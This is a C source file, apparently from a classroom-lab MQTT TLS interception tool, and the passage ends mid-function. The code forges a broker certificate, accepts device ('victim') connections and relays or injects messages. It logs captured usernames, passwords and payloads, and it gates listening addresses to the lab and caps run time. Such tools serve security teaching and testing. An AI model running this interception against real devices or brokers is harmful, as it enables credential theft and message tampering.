#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/x509v3.h>

#include "mitm-int.h"
#include "mqttls/util.h"
#include "mqttls/version.h"

/* ---- tables ---------------------------------------------------------------------------------- */

static const char *const ev_names[] = {
	[MITM_EV_LISTENING] = "listening", [MITM_EV_HANDSHAKE] = "handshake",
	[MITM_EV_CONNECT] = "connect", [MITM_EV_CONNACK] = "connack", [MITM_EV_PUBLISH] = "publish",
	[MITM_EV_SUBSCRIBE] = "subscribe", [MITM_EV_INJECT] = "inject", [MITM_EV_UPSTREAM] = "upstream",
	[MITM_EV_PACKET] = "packet", [MITM_EV_MALFORMED] = "malformed", [MITM_EV_REFUSED] = "refused",
	[MITM_EV_CLOSED] = "closed", [MITM_EV_STOPPED] = "stopped",
};

const char *mitm_event_name(enum mitm_ev_type t)
{
	return (unsigned)t < MQ_ARRAY_LEN(ev_names) && ev_names[t] ? ev_names[t] : "unknown";
}

static const char *const dir_names[] = { "device_to_broker", "broker_to_device" };

/* ---- topics ---------------------------------------------------------------------------------- */

bool mitm_topic_match(const char *filter, size_t flen, const char *topic, size_t tlen)
{
	size_t f = 0, t = 0;

	/* A filter starting with a wildcard does not match $SYS-style topics (MQTT 4.7.2). */
	if (tlen && topic[0] == '$' && flen && (filter[0] == '#' || filter[0] == '+'))
		return false;
	while (f < flen) {
		if (filter[f] == '#')
			return f + 1 == flen && (f == 0 || filter[f - 1] == '/');
		if (filter[f] == '+') {
			while (t < tlen && topic[t] != '/')
				t++;
			f++;
		} else {
			if (t >= tlen) {
				/* "a/#" also matches "a" itself */
				return flen - f == 2 && filter[f] == '/' && filter[f + 1] == '#';
			}
			if (filter[f] != topic[t])
				return false;
			f++;
			t++;
		}
	}
	return t == tlen;
}

/* ---- events and the JSON log ---------------------------------------------------------------- */

double mitm_wall_now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

void mitm_event_init(struct mitm_event *ev, enum mitm_ev_type type, const struct mitm_victim *vi)
{
	/* Every relayed packet makes an event. Inlined, clearing a struct this size is a "rep stos"
	 * whose start-up costs more than the rest of the event; the size is hidden from the compiler
	 * so that the C library's vectorised memset does it. */
	size_t size = sizeof *ev;

	__asm__("" : "+r"(size));
	memset(ev, 0, size);
	ev->type = type;
	ev->packet_id = -1;
	ev->code = -1;
	if (vi) {
		ev->victim = vi->id;
		ev->client = vi->addr;
		ev->protocol = vi->version;
	}
}

/*
 * The log line is written directly (a busy relay logs tens of thousands of events a second;
 * building a cJSON tree per event cost more than relaying the packet). mitm_event_to_json()
 * parses this same text, so there is one definition of every shape.
 */
/* The small writers below are inlined where each key is written, so that the key's length and
 * text are constants there. */
#define JW_INLINE __attribute__((always_inline))

/* Room for n more bytes (and the NUL) at the end of s; returns where they go. */
static inline JW_INLINE char *room(struct mq_str *s, size_t n)
{
	if (s->len + n + 1 > s->cap) {
		size_t cap = s->cap ? s->cap : 256;
		char *p;
		while (cap < s->len + n + 1)
			cap *= 2;
		if (!(p = realloc(s->s, cap)))
			abort();   /* as mq_str_append: out of memory leaves nothing sensible to do */
		s->s = p;
		s->cap = cap;
	}
	return s->s + s->len;
}

static inline void put(struct mq_str *s, const char *d, size_t n)
{
	memcpy(room(s, n), d, n);
	s->len += n;
}

struct jw {
	struct mq_str *s;
	bool first;
};

/* Keys are literals: their length is known where they are written. */
#define jw_key(w, k) jw_key_n(w, k, sizeof(k) - 1)
static inline JW_INLINE void jw_key_n(struct jw *w, const char *k, size_t kl)
{
	char *d = room(w->s, kl + 4);

	d[0] = w->first ? '{' : ',';
	d[1] = '"';
	memcpy(d + 2, k, kl);
	d[kl + 2] = '"';
	d[kl + 3] = ':';
	w->s->len += kl + 4;
	w->first = false;
}

typedef uint8_t u8x16 __attribute__((vector_size(16)));

/* Does any of the 16 bytes at p need more than copying into a JSON string: a control character,
 * '"', '\\', or a byte over 0x7F (part of a multi-byte sequence, checked one by one)? Written
 * with the compiler's vector extensions: one SSE2 (or NEON) comparison for 16 bytes. */
static inline bool special16(const uint8_t *p)
{
	u8x16 x, m;
	uint64_t lo, hi;

	memcpy(&x, p, 16);
	m = (u8x16)((x < 0x20) | (x >= 0x80) | (x == '"') | (x == '\\'));
	memcpy(&lo, &m, 8);
	memcpy(&hi, (const uint8_t *)&m + 8, 8);
	return (lo | hi) != 0;
}

/* The same for 8 bytes, in a 64-bit word (for short strings). */
static inline bool special8(const uint8_t *p)
{
	const uint64_t ones = 0x0101010101010101ull, highs = 0x8080808080808080ull;
	uint64_t x, q, b;

	memcpy(&x, p, 8);
	q = x ^ (ones * '"');
	b = x ^ (ones * '\\');
	return (((x - ones * 0x20) & ~x) | x | ((q - ones) & ~q) | ((b - ones) & ~b)) & highs;
}

/*
 * p[0..n) as a JSON string, in one pass that also checks it is what mq_utf8_valid() accepts
 * (UTF-8 without overlongs, surrogates or NUL). False, with nothing written, when it is not.
 * Payloads are mostly plain text: 16 bytes are looked at and copied at a time.
 */
static bool jw_text(struct mq_str *s, const uint8_t *p, size_t n)
{
	static const char hex[] = "0123456789abcdef";
	size_t start = s->len, i = 0;
	char *d, *d0;

	if (!p)
		n = 0;
	d = d0 = room(s, 6 * n + 2);   /* \u00XX is the longest a byte can become */

	*d++ = '"';
	while (i < n) {
		uint8_t c;

		if (n - i >= 16) {
			if (!special16(p + i)) {
				memcpy(d, p + i, 16);
				d += 16;
				i += 16;
				continue;
			}
		} else if (n >= 16 ? !special16(p + n - 16) : n - i >= 8 && !special8(p + i) && !special8(p + n - 8)) {
			/* the last bytes, in one look at the last 16 (or two at the last 8) */
			memcpy(d, p + i, n - i);
			d += n - i;
			break;
		}
		c = p[i];
		if (c >= 0x80) {
			size_t k, len = c < 0xC2 || c > 0xF4 ? 0 : c < 0xE0 ? 2 : c < 0xF0 ? 3 : 4;
			uint32_t cp;
			if (len == 0 || len > n - i)
				goto invalid;
			cp = c & (0xFFu >> (len + 1));
			for (k = 1; k < len; k++) {
				if ((p[i + k] & 0xC0) != 0x80)
					goto invalid;
				cp = (cp << 6) | (p[i + k] & 0x3F);
			}
			if ((len == 3 && cp < 0x800) || (len == 4 && (cp < 0x10000 || cp > 0x10FFFF)) ||
			    (cp >= 0xD800 && cp <= 0xDFFF))
				goto invalid;
			memcpy(d, p + i, len);
			d += len;
			i += len;
			continue;
		}
		if (c == 0)
			goto invalid;
		if (c == '"' || c == '\\') {
			*d++ = '\\';
			*d++ = (char)c;
		} else if (c < 0x20) {
			memcpy(d, "\\u00", 4);
			d[4] = hex[c >> 4];
			d[5] = hex[c & 15];
			d += 6;
		} else {
			*d++ = (char)c;
		}
		i++;
	}
	*d++ = '"';
	s->len += (size_t)(d - d0);
	return true;
invalid:
	s->len = start;
	return false;
}

/* One of our own names (an event, a direction): plain ASCII, nothing to escape. */
#define jw_lit(w, k, v) jw_lit_n(w, k, sizeof(k) - 1, v)
static inline JW_INLINE void jw_lit_n(struct jw *w, const char *k, size_t kl, const char *v)
{
	size_t n = strlen(v);
	char *d;

	jw_key_n(w, k, kl);
	d = room(w->s, n + 2);
	d[0] = '"';
	memcpy(d + 1, v, n);
	d[n + 1] = '"';
	w->s->len += n + 2;
}

#define jw_str(w, k, v) jw_str_n(w, k, sizeof(k) - 1, v)
static void jw_str_n(struct jw *w, const char *k, size_t kl, const char *v)
{
	if (!v)
		return;
	jw_key_n(w, k, kl);
	if (!jw_text(w->s, (const uint8_t *)v, strlen(v))) {
		char *e = mq_escape_dup(v, strlen(v));   /* our own strings are ASCII; be safe anyway */
		if (!e || !jw_text(w->s, (const uint8_t *)e, strlen(e)))
			put(w->s, "\"\"", 2);
		free(e);
	}
}

/* Decimal digits of v into the end of buf, two at a time; returns where they start (printf is
 * too slow here). */
static char *digits(char *end, unsigned long long v)
{
	static const char pairs[] = "00010203040506070809101112131415161718192021222324252627282930313233343536373839"
				    "40414243444546474849505152535455565758596061626364656667686970717273747576777879"
				    "8081828384858687888990919293949596979899";

	while (v >= 100) {
		unsigned d = (unsigned)(v % 100);
		v /= 100;
		end -= 2;
		memcpy(end, pairs + 2 * d, 2);
	}
	if (v >= 10) {
		end -= 2;
		memcpy(end, pairs + 2 * v, 2);
	} else {
		*--end = (char)('0' + v);
	}
	return end;
}

#define jw_int(w, k, v) jw_int_n(w, k, sizeof(k) - 1, v)
static inline JW_INLINE void jw_int_n(struct jw *w, const char *k, size_t kl, long long v)
{
	char buf[24], *end = buf + sizeof buf, *p;

	jw_key_n(w, k, kl);
	p = digits(end, v < 0 ? 0ull - (unsigned long long)v : (unsigned long long)v);
	if (v < 0)
		*--p = '-';
	put(w->s, p, (size_t)(end - p));
}

#define jw_num(w, k, v) jw_num_n(w, k, sizeof(k) - 1, v)
static void jw_num_n(struct jw *w, const char *k, size_t kl, double v)
{
	char buf[48], *end = buf + sizeof buf, *p;

	jw_key_n(w, k, kl);
	if (v >= 0 && v < 1e15) {
		/* Counters are whole; time stamps get microseconds. */
		unsigned long long us = (unsigned long long)(v * 1e6 + 0.5), whole = us / 1000000, frac = us % 1000000;
		if (frac) {
			p = digits(end, frac);
			while (end - p < 6)
				*--p = '0';
			*--p = '.';
			p = digits(p, whole);
		} else {
			p = digits(end, (unsigned long long)v);
		}
		put(w->s, p, (size_t)(end - p));
		return;
	}
	int n = snprintf(buf, sizeof buf, "%.6f", v);
	put(w->s, buf, (size_t)n);
}

/* "ts": the packets of one read share their time stamp (see mitm_emit), so its text is kept from
 * the last line. */
static void jw_ts(struct jw *w, double ts)
{
	static _Thread_local double last = -1;
	static _Thread_local char text[64];
	static _Thread_local size_t len;

	if (ts != last) {
		struct mq_str t = { 0 };
		struct jw tw = { &t, false };
		jw_num(&tw, "ts", ts);
		len = t.len < sizeof text ? t.len : 0;
		memcpy(text, t.s, len);
		mq_str_free(&t);
		last = len ? ts : -1;
	}
	if (!len) {
		jw_num(w, "ts", ts);
		return;
	}
	/* text is ,"ts":N */
	put(w->s, text, len);
	if (w->first)
		w->s->s[w->s->len - len] = '{';
	w->first = false;
}

#define jw_bool(w, k, v) jw_bool_n(w, k, sizeof(k) - 1, v)
static inline JW_INLINE void jw_bool_n(struct jw *w, const char *k, size_t kl, bool v)
{
	jw_key_n(w, k, kl);
	put(w->s, v ? "true" : "false", v ? 4 : 5);
}

#define jw_null(w, k) jw_null_n(w, k, sizeof(k) - 1)
static inline JW_INLINE void jw_null_n(struct jw *w, const char *k, size_t kl)
{
	jw_key_n(w, k, kl);
	put(w->s, "null", 4);
}

/* Untrusted bytes: a JSON string when they are clean UTF-8, else base64 with NAME_base64: true;
 * more than cap bytes are cut, with NAME_truncated: true. */
#define jw_bytes(w, k, p, n, cap) jw_bytes_n(w, k, sizeof(k) - 1, p, n, cap)
static void jw_bytes_n(struct jw *w, const char *name, size_t nl, const uint8_t *p, size_t n, size_t cap)
{
	char key[64];
	bool cut = n > cap;

	if (cut)
		n = cap;
	jw_key_n(w, name, nl);
	if (!jw_text(w->s, p, n)) {
		/* base64: 4 characters for every 3 bytes, and the NUL EVP_EncodeBlock adds */
		char *d = room(w->s, 4 * ((n + 2) / 3) + 3);
		int len = EVP_EncodeBlock((unsigned char *)d + 1, p, (int)n);
		d[0] = '"';
		if (len < 0)
			len = 0;
		d[len + 1] = '"';
		w->s->len += (size_t)len + 2;
		snprintf(key, sizeof key, "%s_base64", name);
		jw_key_n(w, key, strlen(key));
		put(w->s, "true", 4);
	}
	if (cut) {
		snprintf(key, sizeof key, "%s_truncated", name);
		jw_key_n(w, key, strlen(key));
		put(w->s, "true", 4);
	}
}

void mitm_event_to_jsonl(const struct mitm_event *ev, struct mq_str *out)
{
	struct jw w = { out, true };
	const size_t cap = MITM_LOG_PAYLOAD_MAX;

	jw_lit(&w, "event", mitm_event_name(ev->type));
	jw_ts(&w, ev->ts);
	jw_str(&w, "client", ev->client);
	if (ev->victim)
		jw_int(&w, "victim", (long long)ev->victim);
	switch (ev->type) {
	case MITM_EV_LISTENING:
		jw_str(&w, "banner", MITM_BANNER);
		jw_str(&w, "listen", ev->listen);
		jw_str(&w, "upstream", ev->upstream);
		jw_str(&w, "mode", ev->mode);
		jw_str(&w, "forged_subject", ev->forged_subject);
		jw_str(&w, "forged_issuer", ev->forged_issuer);
		jw_str(&w, "forged_sans", ev->forged_sans);
		jw_str(&w, "forged_sha256", ev->forged_sha256);
		jw_num(&w, "duration", ev->duration);
		jw_int(&w, "max_conns", (long long)ev->max_conns);
		break;
	case MITM_EV_HANDSHAKE:
		jw_str(&w, "result", ev->result);
		jw_str(&w, "alert", ev->alert);
		jw_str(&w, "reason", ev->reason);
		jw_str(&w, "tls_version", ev->tls_version);
		jw_str(&w, "cipher", ev->cipher);
		jw_str(&w, "sni", ev->sni);
		break;
	case MITM_EV_CONNECT:
		jw_bytes(&w, "client_id", ev->client_id, ev->client_id_len, cap);
		if (ev->has_username)
			jw_bytes(&w, "username", ev->username, ev->username_len, cap);
		else
			jw_null(&w, "username");
		if (ev->has_password)
			jw_bytes(&w, "password", ev->password, ev->password_len, cap);
		else
			jw_null(&w, "password");
		jw_str(&w, "protocol", mqttdec_version_name(ev->protocol));
		jw_int(&w, "keepalive", (long long)ev->keepalive);
		jw_bool(&w, "clean", ev->clean);
		if (ev->has_will) {
			jw_bytes(&w, "will_topic", ev->topic, ev->topic_len, cap);
			jw_bytes(&w, "will_payload", ev->payload, ev->payload_len, cap);
			jw_int(&w, "will_qos", (long long)ev->qos);
			jw_bool(&w, "will_retain", ev->retain);
		}
		break;
	case MITM_EV_PUBLISH:
	case MITM_EV_INJECT:
		if (ev->type == MITM_EV_PUBLISH)
			jw_lit(&w, "dir", dir_names[ev->dir & 1]);
		jw_bytes(&w, "topic", ev->topic, ev->topic_len, cap);
		jw_bytes(&w, "payload", ev->payload, ev->payload_len, cap);
		jw_int(&w, "bytes", (long long)ev->payload_len);
		jw_int(&w, "qos", (long long)ev->qos);
		jw_bool(&w, "retain", ev->retain);
		if (ev->dup)
			jw_bool(&w, "dup", true);
		if (ev->packet_id >= 0)
			jw_int(&w, "packet_id", (long long)ev->packet_id);
		if (ev->has_will)
			jw_bool(&w, "will", true);
		break;
	case MITM_EV_SUBSCRIBE:
		jw_bytes(&w, "topic", ev->topic, ev->topic_len, cap);
		jw_int(&w, "qos", (long long)ev->qos);
		break;
	case MITM_EV_CONNACK:
	case MITM_EV_PACKET:
		jw_lit(&w, "dir", dir_names[ev->dir & 1]);
		jw_str(&w, "packet", ev->packet);
		if (ev->packet_id >= 0)
			jw_int(&w, "packet_id", (long long)ev->packet_id);
		if (ev->code >= 0)
			jw_int(&w, "code", (long long)ev->code);
		jw_str(&w, "meaning", ev->meaning);
		jw_str(&w, "reason", ev->reason);
		break;
	case MITM_EV_MALFORMED:
		jw_lit(&w, "dir", dir_names[ev->dir & 1]);
		jw_str(&w, "reason", ev->reason);
		break;
	case MITM_EV_UPSTREAM:
		jw_str(&w, "result", ev->result);
		jw_str(&w, "upstream", ev->upstream);
		jw_str(&w, "reason", ev->reason);
		jw_str(&w, "tls_version", ev->tls_version);
		break;
	case MITM_EV_CLOSED:
		jw_str(&w, "reason", ev->reason);
		jw_int(&w, "packets_device_to_broker", (long long)ev->packets[MITM_D2B]);
		jw_int(&w, "packets_broker_to_device", (long long)ev->packets[MITM_B2D]);
		jw_int(&w, "bytes_device_to_broker", (long long)ev->bytes[MITM_D2B]);
		jw_int(&w, "bytes_broker_to_device", (long long)ev->bytes[MITM_B2D]);
		break;
	case MITM_EV_REFUSED:
	case MITM_EV_STOPPED:
		jw_str(&w, "reason", ev->reason);
		break;
	}
	mq_str_append(out, "}", 1);
}

cJSON *mitm_event_to_json(const struct mitm_event *ev)
{
	struct mq_str s = { 0 };
	cJSON *o;

	mitm_event_to_jsonl(ev, &s);
	o = s.s ? cJSON_Parse(s.s) : NULL;
	mq_str_free(&s);
	return o;
}

/* Write out what the log holds. A log that cannot be written (a full disk) is given up, not
 * retried line after line; the relay itself goes on. */
static void log_write_out(struct mitm *m)
{
	size_t off = 0;

	while (off < m->log_buf.len && m->log_fd >= 0) {
		ssize_t w = write(m->log_fd, m->log_buf.s + off, m->log_buf.len - off);
		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0) {
			close(m->log_fd);
			m->log_fd = -1;
			break;
		}
		off += (size_t)w;
	}
	m->log_buf.len = 0;
}

/* A line was added to log_buf: written once the loop has handled what is ready (not per line:
 * a busy relay logs thousands a second; "tail -f" still shows each event as it happens), or at
 * once when a lot is waiting. */
static void log_written(struct mitm *m)
{
	if (m->log_buf.len >= MITM_LOG_CHUNK || !m->log_flush)
		log_write_out(m);
	else
		event_active(m->log_flush, EV_TIMEOUT, 0);   /* again while active: no-op */
}

static void log_line(struct mitm *m, const char *line, size_t len)
{
	if (m->log_fd < 0)
		return;
	mq_str_append(&m->log_buf, line, len);
	mq_str_append(&m->log_buf, "\n", 1);
	log_written(m);
}

static void on_log_flush(evutil_socket_t fd, short what, void *arg)
{
	(void)fd;
	(void)what;
	log_write_out(arg);
}

void mitm_emit(struct mitm *m, struct mitm_event *ev)
{
	/* The packets of one read share the time they were read at (pump() takes it once); other
	 * events are stamped as they happen. Not libevent's cached clock: it is the coarse
	 * monotonic clock, 4 ms steps here, too coarse to tell a PUBLISH from its PUBACK. */
	ev->ts = m->stamp ? m->stamp : mitm_wall_now();
	if (m->log_fd >= 0) {
		/* straight onto the end of what is waiting to be written: no copy of the line */
		mitm_event_to_jsonl(ev, &m->log_buf);
		mq_str_append(&m->log_buf, "\n", 1);
		log_written(m);
	}
	if (m->obs)
		m->obs(ev, m->obs_arg);
}

static int open_log(struct mitm *m, const char *path, bool force, struct mq_err *err)
{
	struct stat st;
	bool existed = lstat(path, &st) == 0;
	int fd;
	char *line;
	cJSON *o;

	if (existed && S_ISDIR(st.st_mode)) {
		mq_errf(err, "--json-log %s is a directory: give a file name", path);
		return -1;
	}
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | O_NOFOLLOW | (force ? O_TRUNC : O_EXCL), 0600);
	if (fd < 0) {
		if (errno == EEXIST)
			mq_errf(err, "%s already exists: use --force to replace it", path);
		else
			mq_errf_errno(err, "cannot create %s", path);
		return -1;
	}
	/* A log this run made is removed again when the run never starts, so that the same command
	 * can simply be run again once the cause is fixed. */
	if (!existed && !(m->log_path = strdup(path))) {
		mq_errf(err, "out of memory");
		close(fd);
		return -1;
	}
	/* Credentials end up in this file: never readable by others, even when it existed before. */
	if (fchmod(fd, 0600) < 0) {
		mq_errf_errno(err, "cannot open %s", path);
		close(fd);
		return -1;
	}
	m->log_fd = fd;
	o = cJSON_CreateObject();
	cJSON_AddStringToObject(o, "event", "banner");
	cJSON_AddNumberToObject(o, "ts", mitm_wall_now());
	cJSON_AddStringToObject(o, "banner", MITM_BANNER);
	cJSON_AddStringToObject(o, "text", MITM_BANNER ": a rogue broker for a classroom lab; it shows "
				"credentials and messages of devices that do not verify the broker");
	cJSON_AddStringToObject(o, "tool", MQTTLS_NAME);
	cJSON_AddStringToObject(o, "version", MQTTLS_VERSION);
	line = cJSON_PrintUnformatted(o);
	cJSON_Delete(o);
	if (line)
		log_line(m, line, strlen(line));
	free(line);
	return 0;
}

/* ---- start -------------------------------------------------------------------------------- */

static char *xstrdup(const char *s)
{
	return s ? strdup(s) : NULL;
}

static void on_deadline(evutil_socket_t fd, short what, void *arg)
{
	struct mitm *m = arg;
	(void)fd;
	(void)what;
	snprintf(m->stop_buf, sizeof m->stop_buf, "the maximum run time (%.0f s) was reached; "
		 "use --duration to change it", m->duration);
	mitm_stop(m, m->stop_buf);
}

static void on_accept(struct evconnlistener *l, evutil_socket_t fd, struct sockaddr *sa, int salen, void *arg)
{
	(void)l;
	victim_accept(arg, fd, sa, salen);
}

static void on_accept_error(struct evconnlistener *l, void *arg)
{
	struct mitm *m = arg;
	struct mitm_event ev;
	int e = EVUTIL_SOCKET_ERROR();

	(void)l;
	/* Out of descriptors: say so, keep the victims we have, and go on accepting later. */
	mitm_event_init(&ev, MITM_EV_REFUSED, NULL);
	ev.reason = evutil_socket_error_to_string(e);
	mitm_emit(m, &ev);
}

static int bind_listener(struct mitm *m, const struct sockaddr_storage *ss, socklen_t len, struct mq_err *err)
{
	int one = 1;
	evutil_socket_t fd = socket(ss->ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0) {
		mq_errf_errno(err, "cannot create the listening socket");
		return -1;
	}
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (ss->ss_family == AF_INET6)
		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
	if (bind(fd, (const struct sockaddr *)ss, len) < 0) {
		mq_errf_errno(err, "cannot listen on %s", m->listen_str);
		close(fd);
		return -1;
	}
	m->lst = evconnlistener_new(m->base, on_accept, m,
				    LEV_OPT_CLOSE_ON_FREE | LEV_OPT_CLOSE_ON_EXEC | LEV_OPT_DISABLED, 512, fd);
	if (!m->lst) {
		mq_errf_errno(err, "cannot listen on %s", m->listen_str);
		close(fd);
		return -1;
	}
	evconnlistener_set_error_cb(m->lst, on_accept_error);
	return 0;
}

static void summarize_name(X509_NAME *n, char *buf, size_t size)
{
	BIO *b = BIO_new(BIO_s_mem());
	int len;

	buf[0] = '\0';
	if (!b)
		return;
	X509_NAME_print_ex(b, n, 0, XN_FLAG_RFC2253 & ~ASN1_STRFLGS_ESC_MSB);
	len = BIO_read(b, buf, (int)size - 1);
	buf[len > 0 ? len : 0] = '\0';
	BIO_free(b);
}

static void summarize_sans(X509 *x, char *buf, size_t size)
{
	GENERAL_NAMES *gens = X509_get_ext_d2i(x, NID_subject_alt_name, NULL, NULL);
	struct mq_str s = { 0 };

	buf[0] = '\0';
	for (int i = 0; gens && i < sk_GENERAL_NAME_num(gens); i++) {
		GENERAL_NAME *g = sk_GENERAL_NAME_value(gens, i);
		if (g->type == GEN_DNS) {
			const unsigned char *d = ASN1_STRING_get0_data(g->d.dNSName);
			char *e = mq_escape_dup(d, (size_t)ASN1_STRING_length(g->d.dNSName));
			mq_str_printf(&s, "%sDNS:%s", s.len ? ", " : "", e ? e : "");
			free(e);
		} else if (g->type == GEN_IPADD) {
			char ip[INET6_ADDRSTRLEN] = "?";
			int l = ASN1_STRING_length(g->d.iPAddress);
			const unsigned char *d = ASN1_STRING_get0_data(g->d.iPAddress);
			if (l == 4 || l == 16)
				inet_ntop(l == 4 ? AF_INET : AF_INET6, d, ip, sizeof ip);
			mq_str_printf(&s, "%sIP:%s", s.len ? ", " : "", ip);
		}
	}
	GENERAL_NAMES_free(gens);
	snprintf(buf, size, "%s", s.s ? s.s : "");
	mq_str_free(&s);
}

void mitm_forged_and_ready(struct mitm *m, X509 *tmpl)
{
	struct mq_err err = { 0 };
	struct mitm_event ev;
	char subj[512], iss[512], sans[1024], fp[100] = "";
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned mdlen = 0;

	m->fopts.tmpl = tmpl;
	if (forge_make(&m->fopts, &m->forged, &err) < 0) {
		mitm_fail_start(m, "%s", err.msg);
		return;
	}
	m->fopts.tmpl = NULL;
	m->srv_ctx = SSL_CTX_new(TLS_server_method());
	if (!m->srv_ctx || !SSL_CTX_use_certificate(m->srv_ctx, m->forged.cert) ||
	    !SSL_CTX_use_PrivateKey(m->srv_ctx, m->forged.key)) {
		mq_errf_ssl(&err, "cannot use the forged certificate");
		mitm_fail_start(m, "%s", err.msg);
		return;
	}
	for (int i = 0; i < sk_X509_num(m->forged.chain); i++)
		SSL_CTX_add1_chain_cert(m->srv_ctx, sk_X509_value(m->forged.chain, i));
	/* Devices as old as the tutorials' ESP32s speak TLS 1.2; accept down to it, up to 1.3. */
	SSL_CTX_set_min_proto_version(m->srv_ctx, TLS1_2_VERSION);
	SSL_CTX_set_options(m->srv_ctx, SSL_OP_NO_TICKET);
	SSL_CTX_set_info_callback(m->srv_ctx, victim_info_cb);
	evconnlistener_enable(m->lst);
	m->started = true;

	summarize_name(X509_get_subject_name(m->forged.cert), subj, sizeof subj);
	summarize_name(X509_get_issuer_name(m->forged.cert), iss, sizeof iss);
	summarize_sans(m->forged.cert, sans, sizeof sans);
	if (X509_digest(m->forged.cert, EVP_sha256(), md, &mdlen))
		for (unsigned i = 0; i < mdlen; i++)
			snprintf(fp + 3 * i, sizeof fp - 3 * i, "%02X%s", md[i], i + 1 < mdlen ? ":" : "");
	mitm_event_init(&ev, MITM_EV_LISTENING, NULL);
	ev.listen = m->listen_str;
	char up[300] = "";
	if (m->upstream_host)
		snprintf(up, sizeof up, strchr(m->upstream_host, ':') ? "[%s]:%d" : "%s:%d",
			 m->upstream_host, m->upstream_port);
	ev.upstream = m->upstream_host ? up : NULL;
	ev.mode = m->upstream_host ? "relay" : "rogue";
	ev.forged_subject = subj;
	ev.forged_issuer = iss;
	ev.forged_sans = sans;
	ev.forged_sha256 = fp;
	ev.duration = m->duration;
	ev.max_conns = m->max_conns;
	mitm_emit(m, &ev);
}

void mitm_fail_start(struct mitm *m, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(m->stop_buf, sizeof m->stop_buf, fmt, ap);
	va_end(ap);
	mitm_stop(m, m->stop_buf);
}

static int resolve_hostport(struct mitm *m, enum gate_role role, const char *spec, const char *what,
			    char **host_out, int *port_out, struct sockaddr_storage *addrs, socklen_t *lens,
			    size_t *n_out, struct mq_err *err)
{
	char host[256];
	int port, n;

	if (gate_split_hostport(spec, host, sizeof host, port_out, err) < 0) {
		mq_errf(err, "(%s)", what);
		return -1;
	}
	n = gate_resolve(&m->gate, role, host, *port_out, addrs, lens, GATE_MAX_ADDRS, err);
	if (n < 0)
		return -1;
	*n_out = (size_t)n;
	if (host_out && !(*host_out = strdup(host))) {
		mq_errf(err, "out of memory");
		return -1;
	}
	(void)port;
	return 0;
}

struct mitm *mitm_new(struct event_base *base, const struct mitm_opts *o, mitm_observer obs, void *arg,
		      struct mq_err *err)
{
	struct mitm *m = calloc(1, sizeof *m);
	struct sockaddr_storage lss[GATE_MAX_ADDRS];
	socklen_t llen[GATE_MAX_ADDRS];
	size_t nl = 0;
	int lport;

	if (!m) {
		mq_errf(err, "out of memory");
		return NULL;
	}
	m->log_fd = -1;
	m->base = base;
	m->obs = obs;
	m->obs_arg = arg;
	gate_init(&m->gate);
	m->max_conns = o->max_conns > 0 ? o->max_conns : MITM_DEFAULT_MAX_CONNS;
	m->duration = o->duration > 0 ? o->duration : MITM_DEFAULT_DURATION;
	m->max_packet = o->max_packet ? o->max_packet : MITM_DEFAULT_MAX_PACKET;
	m->keep_max = o->keep_max ? o->keep_max : 10000;

	/* 1. Every address through the gate, before any socket exists. */
	if (!o->listen) {
		mq_errf(err, "--listen ADDR:PORT is required");
		goto fail;
	}
	for (size_t i = 0; i < o->n_lab_bind; i++)
		if (gate_add_lab(&m->gate, o->lab_bind[i], err) < 0)
			goto fail;
	if (resolve_hostport(m, GATE_LISTEN, o->listen, "--listen", NULL, &lport, lss, llen, &nl, err) < 0)
		goto fail;
	gate_set_listen(&m->gate, (struct sockaddr *)&lss[0], llen[0]);
	gate_addr_str((struct sockaddr *)&lss[0], m->listen_str, sizeof m->listen_str);
	if (o->upstream) {
		if (!o->upstream_cafile) {
			mq_errf(err, "--upstream needs --upstream-cafile: the relay only talks to a broker it has verified");
			goto fail;
		}
		if (resolve_hostport(m, GATE_UPSTREAM, o->upstream, "--upstream", &m->upstream_host,
				     &m->upstream_port, m->up_addr, m->up_len, &m->n_up, err) < 0)
			goto fail;
	} else if (o->upstream_cafile || o->upstream_cert || o->upstream_key) {
		mq_errf(err, "--upstream-cafile, --upstream-cert and --upstream-key need --upstream");
		goto fail;
	}
	if (o->clone) {
		if (mq_file_exists(o->clone)) {
			m->clone_file = xstrdup(o->clone);
		} else if (strchr(o->clone, ':')) {
			if (resolve_hostport(m, GATE_UPSTREAM, o->clone, "--clone", &m->clone_host, &m->clone_port,
					     m->clone_addr, m->clone_len, &m->n_clone, err) < 0)
				goto fail;
		} else {
			mq_errf(err, "--clone %s: no such certificate file (or give HOST:PORT to fetch it from)", o->clone);
			goto fail;
		}
	}

	/* 2. Copy the rest of the options. */
	m->fopts = o->forge;
	m->fopts.tmpl = NULL;
	m->ca_cert = xstrdup(o->forge.ca_cert);
	m->ca_key = xstrdup(o->forge.ca_key);
	m->fopts.ca_cert = m->ca_cert;
	m->fopts.ca_key = m->ca_key;
	if (o->forge.n_names) {
		m->names = calloc(o->forge.n_names, sizeof *m->names);
		if (!m->names)
			goto oom;
		for (size_t i = 0; i < o->forge.n_names; i++)
			if (!(m->names[i] = strdup(o->forge.names[i])))
				goto oom;
		m->fopts.names = (const char *const *)m->names;
	}
	if (o->n_inject) {
		m->inject = calloc(o->n_inject, sizeof *m->inject);
		if (!m->inject)
			goto oom;
		m->n_inject = o->n_inject;
		for (size_t i = 0; i < o->n_inject; i++) {
			m->inject[i].topic = strdup(o->inject[i].topic);
			m->inject[i].payload = strdup(o->inject[i].payload);
			if (!m->inject[i].topic || !m->inject[i].payload)
				goto oom;
		}
	}
	if (o->upstream &&
	    !(m->up_ctx = upstream_ctx_new(o->upstream_cafile, o->upstream_cert, o->upstream_key, err)))
		goto fail;

	/* 3. The log, the listener (disabled until the forgery exists), the clock. */
	if (o->json_log && open_log(m, o->json_log, o->force, err) < 0)
		goto fail;
